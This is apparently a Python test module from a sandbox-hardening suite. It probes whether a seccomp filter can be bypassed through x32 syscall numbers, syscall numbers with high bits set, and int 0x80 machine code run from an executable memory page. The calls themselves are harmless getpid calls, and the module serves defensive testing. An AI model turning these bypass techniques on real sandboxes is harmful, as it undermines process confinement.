"""Enter the kernel by another door.

Attacks: a filter that knows one numbering.
How: x32 numbers (bit 30 set), int 0x80 from machine code, number -1, numbers with high bits.
Source: seccomp(2) on x32 and on checking `arch`; the "32-bit syscalls bypass" of Chrome's and Docker's early
filters.
Breach: the call is carried out: it returns something but an error, or the process survives int 0x80 with a result.
"""

import ctypes
import mmap

from kernel import libc

GROUP, CONTROL, NEEDS = "kernel", True, "x86_64"
ENDS = ("WorkerCrashed",)
# mov eax,20 (32-bit getpid, number of writev otherwise); int 0x80; ret
_INT80 = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"


def attack(outside):
    for number in (0x40000000 + 39, 39 | (1 << 40)):  # x32 getpid; getpid with a high bit
        if outside.confined and number & 0x40000000:
            continue  # it kills: last of all
        libc.syscall(ctypes.c_long(number))
    page = mmap.mmap(
        -1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
    )
    page.write(_INT80)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return f"int 0x80 answered {answer}"
